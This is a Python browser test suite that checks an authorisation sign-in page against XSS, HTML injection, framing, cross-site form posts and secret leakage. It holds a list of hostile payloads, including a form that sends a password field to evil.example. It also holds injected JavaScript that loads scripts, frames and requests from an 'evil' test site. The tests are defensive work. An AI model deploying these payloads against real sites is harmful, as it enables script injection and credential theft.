"""What others could do to the page, tried in a real browser: write on it, frame it, post to it, listen at it."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from typing import Any

import pytest

from tests.support.bakery import Site, site
from tests.support.discharge import ours, predicates, ticket
from tests.support.service import User
from tests.support.web import Auth, Begun

pytestmark = [
    pytest.mark.slow,
    pytest.mark.asyncio(loop_scope="session"),
    pytest.mark.filterwarnings("ignore::DeprecationWarning"),
]


@pytest.fixture
def evil() -> Iterator[Site]:
    """Another site on this machine: another port, and by the name `localhost` another site altogether."""
    with site() as made:
        made.places["/canary"] = lambda _: (200, {"Content-Type": "text/html"}, b"<h1>canary</h1>")
        yield made


def shows(evil: Site, html: str) -> None:
    evil.places["/"] = lambda _: (200, {"Content-Type": "text/html; charset=utf-8"}, html.encode())


def by_name(evil: Site) -> str:
    return evil.url.replace("127.0.0.1", "localhost")


# what others wrote


HOSTILE = [
    "<script>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "</li></ul></body></html><h1>Done</h1>",
    "<svg/onload=alert(1)>",
    "<meta/http-equiv=refresh/content=0;url=https://evil.example>",
    "<base/href=https://evil.example/>",
    "<style>*{display:none}</style>",
    "<form/action=https://evil.example><input/name=password>",
    "\"'><a/href=javascript:alert(1)>here</a>",
    "&lt;b&gt;&#60;b&#62;<b>",
    "<!--",
    "{{7*7}}${7*7}%0A",
]


async def test_a_condition_that_is_html_is_read_as_it_was_written(service: Auth, open_window: Any) -> None:
    window = await open_window()
    dialogs: list[str] = []
    window.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    await window.visit(Begun(service, ticket(service, "is-member-of ops")).page)
    elements = "[...document.querySelectorAll('*')].map((element) => element.tagName).join(' ')"
    harmless = await window.page.evaluate(elements)
    for text in HOSTILE:
        begun = Begun(service, ticket(service, f"is-member-of {text}"))
        await window.visit(begun.page)
        [item] = await window.page.get_by_role("listitem").all_inner_texts()
        assert item == f"You belong to {text}\nis-member-of {text}"
        assert await window.page.evaluate(elements) == harmless, text
        assert window.page.url == begun.page
    assert dialogs == []


async def test_a_condition_that_turns_writing_around_turns_nothing_else(
    service: Auth, open_window: Any
) -> None:
    """What is not seen is shown: the page's own words and buttons stand where they stood, and so do the condition's."""
    window = await open_window()
    words = "[...document.querySelectorAll('p, label, button')].map((one) => one.getBoundingClientRect().x)"
    await window.visit(Begun(service, ticket(service, "is-member-of ops")).page)
    before = await window.page.evaluate(words)
    for text in ("\u202esdrawkcab", "\u2067\u202e\u2066", "\u200f\u061c"):
        await window.visit(Begun(service, ticket(service, f"is-member-of {text}")).page)
        assert await window.page.evaluate(words) == before
        [item] = await window.page.get_by_role("listitem").all_inner_texts()
        assert all(f"\\u{ord(c):04x}" in item for c in text if not c.isprintable())
        assert item.replace("\n", "").isprintable()


async def test_a_name_that_is_html_comes_back_in_its_field_and_nowhere_else(
    service: Auth, user: User, open_window: Any
) -> None:
    window = await open_window()
    for text in (HOSTILE[0], HOSTILE[8], HOSTILE[9]):
        hostile = User(service, text[:64], user.password)  # type: ignore[arg-type]
        await window.visit(Begun(service, ours(service, "signed-in = *")).page)
        assert await window.give(hostile, "Sign in and confirm") == "Sign in"
        assert await window.page.get_by_label("Username").input_value() == text[:64]
        assert await window.page.locator("script, img, svg, a, b, base, form form").count() == 0
        assert text not in await window.text()


# what the page's policy keeps out


INJECTED = {
    "an image": "(url) => { const one = new Image(); one.src = url; document.body.append(one); }",
    "a script": "(url) => { const one = document.createElement('script'); one.src = url; document.body.append(one); }",
    "a script in the page": """() => {
        const one = document.createElement("script");
        one.textContent = "document.title = 'changed'";
        document.body.append(one);
    }""",
    "a handler": "() => { document.body.innerHTML += `<p onclick=\"document.title = 'changed'\">x</p>`; }",
    "a style": "() => { document.body.innerHTML += '<style>body { display: none }</style>'; }",
    "a style's address": """(url) => {
        const one = document.createElement("link");
        one.rel = "stylesheet";
        one.href = url;
        document.body.append(one);
    }""",
    "a frame": "(url) => { const one = document.createElement('iframe'); one.src = url; document.body.append(one); }",
    "a request": "async (url) => { try { await fetch(url); } catch {} }",
    "a base": "(url) => { document.head.insertAdjacentHTML('afterbegin', `<base href='${url}'>`); }",
}


async def test_even_what_got_onto_the_page_would_load_and_run_nothing(
    service: Auth, bare: Any, evil: Site
) -> None:
    """The second wall: the first is that nothing gets there. The browser says what it has kept out."""
    window = await bare()
    begun = Begun(service, ours(service, "signed-in = *"))
    for what, script in INJECTED.items():
        window.complaints.clear()
        await window.visit(begun.page)
        await window.page.evaluate(script, f"{evil.url}/canary")
        for clicked in await window.page.get_by_text("x", exact=True).all():
            await clicked.click()
        await window.page.wait_for_timeout(50)
        assert any("Content Security Policy" in complaint for complaint in window.complaints), what
        assert await window.page.title() == "Sign in", what
        assert await window.page.get_by_role("heading", name="Sign in").is_visible(), what
        assert await window.page.evaluate("document.baseURI") == window.page.url == begun.page, what
    assert evil.asked == []


async def test_even_a_form_that_got_onto_the_page_would_send_nothing_elsewhere(
    service: Auth, bare: Any, evil: Site
) -> None:
    window = await bare()
    await window.visit(Begun(service, ours(service, "signed-in = *")).page)
    await window.page.get_by_label("Password").fill("a password")
    await window.page.evaluate(
        """(url) => {
            document.forms[0].action = url;
            document.forms[0].noValidate = true;
            setTimeout(() => document.forms[0].querySelector("button").click());
        }""",
        f"{evil.url}/canary",
    )
    await window.complaint("form-action")
    assert evil.asked == []


async def test_the_page_is_framed_by_nobody(service: Auth, bare: Any, evil: Site) -> None:
    begun = Begun(service, ours(service, "signed-in = *"))
    shows(
        evil,
        f'<iframe name="page" src="{escape(begun.page)}"></iframe><iframe name="canary" src="/canary"></iframe>',
    )
    window = await bare()
    for url in (evil.url, by_name(evil)):
        window.complaints.clear()
        await window.visit(url)
        await window.complaint("frame-ancestors")
        assert begun.page in window.asked, "it was asked for"
        assert await window.page.frame_locator("[name=canary]").locator("h1").inner_text() == "canary"
        assert await window.page.frame_locator("[name=page]").locator("form, input").count() == 0


# what other sites' pages send


POSTING = '<form method="post" action="{}"><input name="decision" value="{}"><button>Win</button></form>'


@pytest.mark.parametrize("decision", ["allow", "deny"])
@pytest.mark.parametrize("where", ["another port", "another site"])
async def test_a_form_on_another_site_decides_nothing_though_the_browser_has_a_session(
    service: Auth, user: User, bare: Any, evil: Site, *, where: str, decision: str
) -> None:
    """From another port the browser even sends the cookie along: to it, that is the same site."""
    begun = Begun(service, ours(service, "signed-in = *"))
    shows(evil, POSTING.format(escape(begun.page), decision))
    window = await bare()
    await window.has_session(user)
    await window.visit(evil.url if where == "another port" else by_name(evil))
    assert await window.press("Win") == "A page of another site may not do this"
    assert not await window.has_form()
    assert begun.is_open
    await window.visit(begun.page)
    assert await window.press("Confirm") == "Done", "the page's own form is taken"


async def test_a_link_from_another_site_opens_the_page_and_decides_nothing(
    service: Auth, user: User, bare: Any, evil: Site
) -> None:
    begun = Begun(service, ours(service, "signed-in = *"))
    shows(evil, f'<a href="{escape(begun.page)}">Win</a>')
    window = await bare()
    await window.has_session(user)
    await window.visit(by_name(evil))
    async with window.page.expect_navigation():
        await window.page.get_by_text("Win").click()
    assert f"You are signed in as {user.username}." in await window.text()
    assert begun.is_open


async def test_whoever_opened_the_page_has_no_hold_on_its_window(
    service: Auth, bare: Any, evil: Site
) -> None:
    begun = Begun(service, ours(service, "signed-in = *"))
    shows(
        evil,
        "<button onclick=\"window.one = window.open('/canary')\">canary</button>"
        f"<button onclick=\"window.one = window.open('{escape(begun.page)}')\">page</button>",
    )
    window = await bare()
    await window.visit(evil.url)
    held = {}
    for name in ("canary", "page"):
        async with window.context.expect_page() as opened:
            await window.page.get_by_role("button", name=name).click()
        popup = await opened.value
        await popup.get_by_role("heading").wait_for()
        held[name] = (
            await popup.evaluate("window.opener !== null"),
            not await window.page.evaluate("one.closed"),
        )
    assert held == {"canary": (True, True), "page": (False, False)}


# what is left lying about


async def test_nothing_secret_is_in_addresses_in_the_page_in_the_console_or_kept_by_the_browser(
    service: Auth, user: User, open_window: Any
) -> None:
    begun = Begun(service, ours(service, "signed-in = *"))
    window = await open_window()
    sources = []
    await window.visit(begun.page)
    sources.append(await window.page.content())
    await window.give(user, "Sign in and confirm", "not this one")
    sources.append(await window.page.content())
    await window.give(user, "Sign in and confirm")
    sources.append(await window.page.content())
    answer = begun.answer()
    assert predicates(answer)[0] == f"user = {user.username}"
    secrets = {
        "the address to wait at": begun.secret,
        "the password": user.password,
        "the wrong password": "not this one",
        "the ticket": begun.ticket.hex(),
        "the answer": answer.json()["Macaroon"]["s64"],
    }
    visited = begun.page.rpartition("/")[2]
    for text in (*sources, *window.asked, *window.complaints):
        assert {name for name, secret in secrets.items() if secret in text} == set()
    assert not any(visited in source for source in sources), "the address is in the address bar only"
    assert {*window.asked} == {begun.page}
    assert await window.context.cookies() == []
    assert await window.page.evaluate("[localStorage.length, sessionStorage.length, history.state]") == [
        0,
        0,
        None,
    ]
